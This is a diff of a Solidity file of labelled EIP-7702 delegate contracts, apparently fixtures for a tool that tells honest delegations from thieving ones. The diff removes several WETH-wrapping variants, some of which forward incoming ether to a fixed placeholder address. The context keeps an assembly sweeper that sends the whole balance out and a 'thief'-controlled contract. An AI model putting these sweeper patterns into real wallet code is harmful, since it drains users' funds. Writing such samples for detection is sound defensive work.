@@ -17,32 +17,6 @@ contract AssemblySweeper {
         assembly { pop(call(gas(), 0x5678567856785678567856785678567856785678, selfbalance(), 0, 0, 0, 0)) }
     }
 }
-interface IWrapper { function deposit() external payable; function transfer(address, uint256) external returns (bool); }
-/// 7702, honest: keeps its ether as WETH.
-contract WrappingAccount {
-    IWrapper constant weth = IWrapper(0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
-    receive() external payable { weth.deposit{value: msg.value}(); }
-    function pay(address to, uint256 value) external { require(msg.sender == address(this)); weth.transfer(to, value); }
-}
-/// 7702, honest: the same without a function's name.
-contract PlainWrappingAccount {
-    receive() external payable { (bool ok,) = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2.call{value: msg.value}(""); require(ok); }
-}
-/// 7702: wraps what arrives, and is off with it.
-contract WrappingSweeper {
-    IWrapper constant weth = IWrapper(0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
-    receive() external payable { weth.deposit{value: msg.value}(); weth.transfer(0x5678567856785678567856785678567856785678, msg.value); }
-}
-/// 7702: wraps what arrives, and lets anybody send it off.
-contract WrappingTrap {
-    IWrapper constant weth = IWrapper(0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
-    receive() external payable { weth.deposit{value: msg.value}(); }
-    function collect(uint256 value) external { weth.transfer(0x5678567856785678567856785678567856785678, value); }
-}
-/// 7702: wraps what arrives for somebody else.
-contract WrappingGift {
-    receive() external payable { (bool ok,) = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2.call{value: msg.value}(abi.encodeWithSignature("depositTo(address)", 0x5678567856785678567856785678567856785678)); require(ok); }
-}
 /// 7702: only the thief may call, with any target.
 contract RemoteControlled {
     address constant boss = 0x4444444444444444444444444444444444444444;
